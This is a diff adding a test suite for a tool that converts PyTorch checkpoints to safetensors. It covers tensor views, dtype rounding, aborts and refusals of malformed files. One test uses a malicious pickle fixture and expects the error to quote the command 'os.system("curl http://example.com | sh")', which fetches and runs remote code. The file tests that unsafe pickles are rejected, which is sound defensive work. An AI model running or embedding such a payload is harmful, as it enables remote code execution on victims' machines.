@@ -1,0 +1,267 @@
+import { closeSync, existsSync, openSync, readdirSync, statSync, writeSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { convertCheckpoint, linksOf, withLinks } from '../src/convert/index.ts';
+import { SafetensorsError, safeOpenSync } from '../src/index.ts';
+import {
+  type Code,
+  checkpoint,
+  EVIL,
+  entriesOf,
+  named,
+  pickle,
+  py,
+  tensor,
+  zip,
+} from './support/checkpoints.ts';
+import { CONVERSION_CODES } from './support/conversion-codes.ts';
+import { thrownBy } from './support/errors.ts';
+import { fileMaker, temporaryFolder } from './support/temporary.ts';
+
+const makeFile = fileMaker();
+const folder = temporaryFolder();
+const provoked = new Set<string>();
+let outputs = 0;
+
+const output = () => join(folder, `${outputs++}.safetensors`);
+const W = named(['w', tensor()]);
+
+async function refusal(bytes: Buffer, options = {}) {
+  const path = makeFile(bytes, 'model.pt');
+  const target = output();
+  const error = await thrownBy(() => convertCheckpoint(path, target, options));
+  expect(error).toBeInstanceOf(SafetensorsError);
+  expect((error as SafetensorsError).path).toBe(path);
+  expect(existsSync(target), 'nothing is written').toBe(false);
+  provoked.add(`${error.code}`.replace('ERR_SAFETENSORS_', ''));
+  return error;
+}
+
+async function converted(value: Code, storages?: Record<string, Buffer>, options = {}) {
+  const target = output();
+  const path = makeFile(checkpoint(value, storages), 'model.pt');
+  const { files } = await convertCheckpoint(path, target, options);
+  expect(files.length).toBe(1);
+  return { file: files[0], tensors: safeOpenSync(target) };
+}
+
+const FLOATS = Buffer.from(Float32Array.of(1, 2, 3, 4).buffer);
+
+describe('a checkpoint', () => {
+  it('becomes a safetensors file', async () => {
+    const { file, tensors } = await converted(W, { 0: FLOATS });
+    expect([...tensors.getTensor('w').data]).toEqual([1, 2, 3, 4]);
+    expect(tensors.metadata).toEqual({ format: 'pt' });
+    expect(file).toMatchObject({ key: '', byteLength: 16, kept: false, others: [], skipped: [] });
+  });
+
+  it('keeps what its views are of', async () => {
+    const value = named(
+      ['t', tensor({ shape: [2, 2], strides: [1, 2] })],
+      ['row', tensor({ key: '1', shape: [2], offset: 2 })],
+      ['wide', tensor({ key: '2', shape: [3, 4], strides: [0, 1] })],
+      ['none', tensor({ key: '3', shape: [0, 4], strides: [4, 1] })],
+      ['one', tensor({ key: '4', shape: [], strides: [], offset: 1 })],
+    );
+    const storages = Object.fromEntries([0, 1, 2, 3, 4].map((key) => [key, FLOATS]));
+    const { tensors } = await converted(value, storages);
+    const found = Object.fromEntries(Array.from(tensors, ([name, { data }]) => [name, [...data]]));
+    expect(found).toEqual({
+      t: [1, 3, 2, 4],
+      row: [3, 4],
+      wide: [1, 2, 3, 4, 1, 2, 3, 4, 1, 2, 3, 4],
+      none: [],
+      one: [2],
+    });
+  });
+
+  it('may have tensors that are longer than the file', async () => {
+    const shape = [3000, 1000, 4];
+    const value = named(['w', tensor({ shape, strides: [0, 0, 1] })]);
+    const { file, tensors } = await converted(value, { 0: FLOATS });
+    expect(file.byteLength).toBe(48_000_000);
+    const { data } = tensors.getTensor('w');
+    expect(data.every((number, i) => number === (i % 4) + 1)).toBe(true);
+  });
+
+  it('has its tensors where one says, or where they usually are', async () => {
+    const value = py.dict(
+      [py.text('epoch'), py.int(3)],
+      [py.text('state_dict'), W],
+      [py.text('ema.model'), py.dict([py.int(0), py.list(tensor({ key: '1' }))])],
+    );
+    const storages = { 0: FLOATS, 1: FLOATS };
+    const usual = await converted(value, storages);
+    expect([...usual.tensors.keys()]).toEqual(['w']);
+    expect(usual.file).toMatchObject({ key: 'state_dict', leftOut: ['epoch', 'ema.model'] });
+    const other = await converted(value, storages, { key: 'ema.model.0' });
+    expect([...other.tensors.keys()]).toEqual(['0']);
+    const all = await converted(value, storages, { key: '', stripPrefix: 'ema.' });
+    expect([...all.tensors.keys()].sort()).toEqual(['model.0.0', 'state_dict.w']);
+    expect(all.file.others).toEqual([{ path: 'epoch', value: '3' }]);
+    const error = await thrownBy(() => converted(value, storages, { key: 'model' }));
+    expect(error).toBeInstanceOf(RangeError);
+    expect(error.message).toMatch(/"epoch", "state_dict", "ema.model"/);
+  });
+
+  it('keeps one of two names for the same tensor, and the link', async () => {
+    const value = named(['head', tensor()], ['emb', tensor()], ['part', tensor({ shape: [2] })]);
+    const { file, tensors } = await converted(value, { 0: FLOATS });
+    expect([...file.links]).toEqual([['head', 'emb']]);
+    expect(tensors.metadata).toEqual({ format: 'pt', head: 'emb' });
+    expect([...linksOf(tensors)]).toEqual([['head', 'emb']]);
+    const all = withLinks(tensors);
+    expect([...all.keys()].sort()).toEqual(['emb', 'head', 'part']);
+    expect(all.get('head')?.data).toEqual(all.get('emb')?.data);
+    expect([...(all.get('part')?.data ?? [])]).toEqual([1, 2]);
+  });
+
+  it('is rounded where one asks for that', async () => {
+    const value = named(
+      ['f32', tensor()],
+      ['f64', tensor({ key: '1', storage: 'DoubleStorage', elements: 2 })],
+      ['i32', tensor({ key: '2', storage: 'IntStorage' })],
+    );
+    const storages = { 0: FLOATS, 1: Buffer.from(Float64Array.of(1.5, -2).buffer), 2: FLOATS };
+    const { tensors, file } = await converted(value, storages, { dtype: 'BF16' });
+    expect(tensors.info('i32').dtype).toBe('I32');
+    expect([...tensors.getTensor('f32').toFloat32()]).toEqual([1, 2, 3, 4]);
+    expect([...tensors.getTensor('f64').toFloat32()]).toEqual([1.5, -2]);
+    expect(tensors.info('f64').dtype).toBe('BF16');
+    expect(file.byteLength).toBe(8 + 4 + 16);
+  });
+
+  it('is only looked at in a dry run', async () => {
+    const target = output();
+    const { files } = await convertCheckpoint(makeFile(checkpoint(W)), target, { dryRun: true });
+    expect(files[0].tensors).toEqual([{ name: 'w', dtype: 'F32', shape: [4] }]);
+    expect(existsSync(target)).toBe(false);
+  });
+
+  it('says how far it is', async () => {
+    const seen: { bytes: number; totalBytes: number }[] = [];
+    await converted(W, undefined, { onProgress: (now: (typeof seen)[0]) => seen.push(now) });
+    expect(seen.at(-1)).toEqual({ bytes: 32, totalBytes: 32 });
+  });
+
+  it('ends with a signal', async () => {
+    const reason = new Error('enough');
+    const target = output();
+    const path = makeFile(checkpoint(W));
+    const aborted = convertCheckpoint(path, target, { signal: AbortSignal.abort(reason) });
+    expect(await thrownBy(() => aborted)).toBe(reason);
+    const late = new AbortController();
+    const ended = convertCheckpoint(path, target, {
+      signal: late.signal,
+      onProgress: () => late.abort(reason),
+    });
+    expect(await thrownBy(() => ended)).toBe(reason);
+    expect(readdirSync(folder).filter((name) => name.endsWith('.tmp'))).toEqual([]);
+  });
+
+  it.each([
+    ['key', { key: 1 }],
+    ['stripPrefix', { stripPrefix: 1 }],
+    ['dtype', { dtype: 'I8' }],
+    ['verify', { verify: 1 }],
+    ['signal', { signal: 1 }],
+  ])('takes no %s of another kind', async (name, options) => {
+    const error = await thrownBy(() => converted(W, undefined, options));
+    expect(error.message).toMatch(new RegExp(`^${name}: expected`));
+    expect(error instanceof TypeError || error instanceof RangeError).toBe(true);
+  });
+});
+
+describe('a checkpoint is refused', () => {
+  it('for what Python would run, which is named', async () => {
+    const error = await refusal(checkpoint(named(['w', tensor()], ['x', EVIL])));
+    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
+    expect(error.message).toContain('os.system("curl http://example.com | sh")');
+    const skipping = await refusal(checkpoint(named(['w', tensor()], ['x', EVIL])), {
+      skipUnknown: true,
+    });
+    expect(skipping.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
+  });
+
+  it('for what is unknown, unless that is to be skipped', async () => {
+    const value = named(
+      ['w', tensor()],
+      ['args', py.call(py.global('argparse', 'Namespace'), py.int(1))],
+    );
+    const error = await refusal(checkpoint(value));
+    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
+    expect(error.message).toContain('argparse.Namespace(1)');
+    const { file } = await converted(value, undefined, { skipUnknown: true });
+    expect(file.skipped).toContain('argparse.Namespace(1)');
+    expect(file.others).toEqual([{ path: 'args', value: 'argparse.Namespace(1)' }]);
+  });
+
+  it.each<[string, string, Buffer]>([
+    ['NOT_A_CHECKPOINT', 'text', Buffer.from('hello, world')],
+    ['NOT_A_CHECKPOINT', 'nothing', Buffer.alloc(0)],
+    ['NOT_A_CHECKPOINT', 'another zip', zip([{ name: 'a.txt', data: Buffer.from('a') }])],
+    ['NO_TENSORS', 'no tensors', checkpoint(named(['n', py.int(3)]))],
+    ['MALFORMED_CHECKPOINT', 'a cut pickle', zip(entriesOf(pickle(W).subarray(0, 60)))],
+    ['MALFORMED_CHECKPOINT', 'bytes behind', Buffer.concat([checkpoint(W), Buffer.from('x')])],
+    ['MALFORMED_CHECKPOINT', 'another length', checkpoint(W, { 0: Buffer.alloc(12) })],
+    ['MALFORMED_CHECKPOINT', 'no storage', checkpoint(W, {})],
+    [
+      'MALFORMED_CHECKPOINT',
+      'a view past the end',
+      checkpoint(named(['w', tensor({ offset: 1 })])),
+    ],
+    [
+      'MALFORMED_CHECKPOINT',
+      'two tensors of a name',
+      checkpoint(named(['w', tensor()], ['w', tensor()])),
+    ],
+    [
+      'CHECKPOINT_LIMIT',
+      'a tensor that is far larger than its storage',
+      checkpoint(named(['w', tensor({ shape: [1 << 20, 1 << 20], strides: [0, 0] })])),
+    ],
+    [
+      'UNSUPPORTED_TENSOR',
+      'complex numbers of 16 bytes',
+      checkpoint(named(['w', tensor({ storage: 'ComplexDoubleStorage', elements: 1 })])),
+    ],
+    [
+      'UNSUPPORTED_TENSOR',
+      'a sparse tensor',
+      checkpoint(
+        named(['w', py.call(py.global('torch._utils', '_rebuild_sparse_tensor'), py.int(0))]),
+      ),
+    ],
+    [
+      'SHARED_TENSORS',
+      'parts that overlap',
+      checkpoint(named(['a', tensor({ shape: [3] })], ['b', tensor({ shape: [3], offset: 1 })])),
+    ],
+  ])('%s: %s', async (code, _, bytes) => {
+    expect((await refusal(bytes)).code).toBe(`ERR_SAFETENSORS_${code}`);
+  });
+
+  it('when what was written is not what was to be written', async () => {
+    const elements = 6 * 2 ** 20;
+    const target = output();
+    const bytes = checkpoint(named(['w', tensor({ elements })]), { 0: Buffer.alloc(4 * elements) });
+    const converting = convertCheckpoint(makeFile(bytes), target, {
+      onProgress: ({ bytes, totalBytes }) => {
+        // Its place is taken before it is compared, piece by piece.
+        if (bytes <= totalBytes / 2 || !existsSync(target)) return;
+        const file = openSync(target, 'r+');
+        writeSync(file, 'x', statSync(target).size - 1);
+        closeSync(file);
+      },
+    });
+    const error = (await thrownBy(() => converting)) as SafetensorsError;
+    expect(error).toMatchObject({ code: 'ERR_SAFETENSORS_CONVERSION_MISMATCH', path: target });
+    provoked.add('CONVERSION_MISMATCH');
+  });
+});
+
+describe('the codes of conversions', () => {
+  it('are all provoked', () => {
+    expect([...provoked].sort()).toEqual([...CONVERSION_CODES].sort());
+  });
+});
